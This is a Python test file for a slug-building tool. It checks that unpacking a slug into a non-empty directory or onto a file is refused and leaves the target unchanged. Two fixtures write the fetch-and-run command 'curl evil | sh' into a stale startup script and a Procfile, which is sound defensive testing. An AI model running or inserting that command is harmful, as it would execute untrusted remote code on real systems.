"""`run --unpack-to DIR` never merges a slug into other files: a directory that holds
anything (a stale `.profile.d` script that would run with the slug, an earlier
slug's modules) is refused before anything is written, and left as it was."""

from __future__ import annotations

from pathlib import Path

import pytest

from slugbuild import errors
from slugbuild.slug.run import run_slug

from ..helpers import assert_refused, cli, crafted_tar, limited

SLUG = [("./Procfile", None, "web: true\n"), ("./hello.txt", None, "hi\n")]


def slug(tmp_path: Path) -> Path:
    return crafted_tar(tmp_path / "app.tgz", SLUG)


def test_a_non_empty_directory_is_refused_and_left_as_it_was(tmp_path: Path) -> None:
    target = tmp_path / "unpacked"
    (target / ".profile.d").mkdir(parents=True)
    (target / ".profile.d" / "stale.sh").write_text("curl evil | sh\n")
    with pytest.raises(errors.SlugbuildError) as raised:
        run_slug(slug(tmp_path), command="true", unpack_to=target)
    assert raised.value.code == errors.UNPACK_TARGET_NOT_EMPTY.code
    assert ".profile.d" in str(raised.value)
    assert sorted(p.name for p in target.rglob("*")) == [".profile.d", "stale.sh"]


def test_a_file_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "file"
    target.write_text("mine\n")
    with pytest.raises(errors.SlugbuildError) as raised:
        run_slug(slug(tmp_path), command="true", unpack_to=target)
    assert raised.value.code == errors.UNPACK_TARGET_NOT_EMPTY.code
    assert target.read_text() == "mine\n"


def test_an_empty_directory_is_used_and_kept(tmp_path: Path) -> None:
    target = tmp_path / "empty"
    target.mkdir()
    assert run_slug(slug(tmp_path), command="test -f hello.txt", unpack_to=target) == 0
    assert (target / "hello.txt").read_text() == "hi\n"


def test_the_command_line_refuses_with_one_message(tmp_path: Path) -> None:
    target = tmp_path / "unpacked"
    target.mkdir()
    (target / "Procfile").write_text("web: curl evil | sh\n")
    result = limited(cli("run", slug(tmp_path), "web", "--unpack-to", target))
    assert_refused(result, errors.UNPACK_TARGET_NOT_EMPTY)
    assert (target / "Procfile").read_text() == "web: curl evil | sh\n"
    assert sorted(p.name for p in target.iterdir()) == ["Procfile"]
